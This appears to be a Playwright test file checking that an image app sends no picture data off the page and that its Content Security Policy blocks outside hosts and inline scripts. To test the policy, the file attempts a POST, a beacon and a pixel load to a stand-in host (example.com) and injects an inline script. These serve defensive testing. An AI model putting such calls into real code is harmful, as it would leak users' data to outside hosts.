// A picture never leaves the tab: every request of a whole session is a plain GET of the app's and the models' files.
import { expect, test } from "@playwright/test";
import { missing } from "../tests/support/witnesses.ts";
import { contentSecurityPolicy } from "../tools/vite/content-security-policy.ts";
import { openApp } from "./support/app.ts";
import { waitUntilKept } from "./support/kept-app.ts";
import { dropFiles, fileOf, pastedTitle, pastePicture } from "./support/pictures.ts";

const appFiles =
  /^\/(assets|icons|models|models-mirror|samples|labels)\/[\w./-]+$|^\/(favicon\.svg|manifest\.webmanifest|service-worker\.js)?$/;

test.describe(`a whole session${missing("models", "images")}`, () => {
  test.skip(missing("models", "images") !== "");

  test("no request carries image data", async ({ page, context, baseURL }) => {
    const sent: { readonly method: string; readonly url: string; readonly body: string | null }[] = [];
    const sockets: string[] = [];
    context.on("request", (request) =>
      sent.push({ method: request.method(), url: request.url(), body: request.postData() }),
    );
    page.on("websocket", (socket) => sockets.push(socket.url()));
    const app = await openApp(page);
    await expect(app.measure("faf").or(page.getByTestId("no-foreground"))).toBeVisible();
    await waitUntilKept(page);
    const before = sent.length;
    await dropFiles(page, [fileOf("images", "coral/pets.jpg")]);
    await app.waitForMapOf("pets.jpg");
    await expect(app.measure("faf")).toBeVisible();
    await pastePicture(page, fileOf("images", "chefer/catdog.png"));
    await app.waitForMapOf(pastedTitle);
    await expect(app.measure("faf")).toBeVisible();
    await app.slider("Discard ratio").fill("0.3");

    expect(before).toBeGreaterThan(5);
    const afterwards = sent.slice(before).map(({ url }) => url);
    // Browsers ask for the tab's icon again whenever the address changes, and the view is in the address.
    const icon = new URL("favicon.svg", page.url()).href;
    expect(
      afterwards.filter((url) => url !== icon),
      "giving a picture needs no request at all",
    ).toEqual([]);
    const web = sent.filter(({ url }) => !url.startsWith("blob:"));
    expect(web.filter(({ method, body }) => method !== "GET" || body !== null)).toEqual([]);
    const strange = web.filter(({ url }) => {
      const { origin, pathname, search } = new URL(url);
      return origin !== new URL(baseURL ?? "").origin || search !== "" || !appFiles.test(pathname);
    });
    expect(strange).toEqual([]);
    expect(sockets).toEqual([]);
  });
});

test("the policy of the page and of its workers forbids other hosts, eval and inline scripts", async ({
  page,
}) => {
  const response = await page.goto("./");
  expect(response?.headers()["content-security-policy"]).toBe(contentSecurityPolicy);
  const inPage = page.locator('meta[http-equiv="Content-Security-Policy"]');
  await expect(inPage).toHaveAttribute("content", contentSecurityPolicy);
  expect(contentSecurityPolicy).not.toContain("'unsafe-eval'");
  expect(contentSecurityPolicy).not.toMatch(/script-src[^;]*'unsafe-inline'/);

  const outcome = await page.evaluate(async () => {
    const blocked: string[] = [];
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) =>
      blocked.push(`${effectiveDirective} ${blockedURI}`),
    );
    const post = { method: "POST", body: "picture" };
    await fetch("https://example.com/collect", post).catch(() => {});
    navigator.sendBeacon("https://example.com/beacon", "picture");
    document.body.append(Object.assign(new Image(), { src: "https://example.com/pixel.png" }));
    const inline = document.createElement("script");
    inline.textContent = "globalThis.inlineScriptRan = true";
    document.body.append(inline);
    await new Promise((resolve) => setTimeout(resolve, 200));
    return { blocked, ran: "inlineScriptRan" in globalThis };
  });
  expect(outcome.ran).toBe(false);
  expect(outcome.blocked).toEqual(
    expect.arrayContaining([
      "connect-src https://example.com/collect",
      "connect-src https://example.com/beacon",
      "img-src https://example.com/pixel.png",
      "script-src-elem inline",
    ]),
  );
});
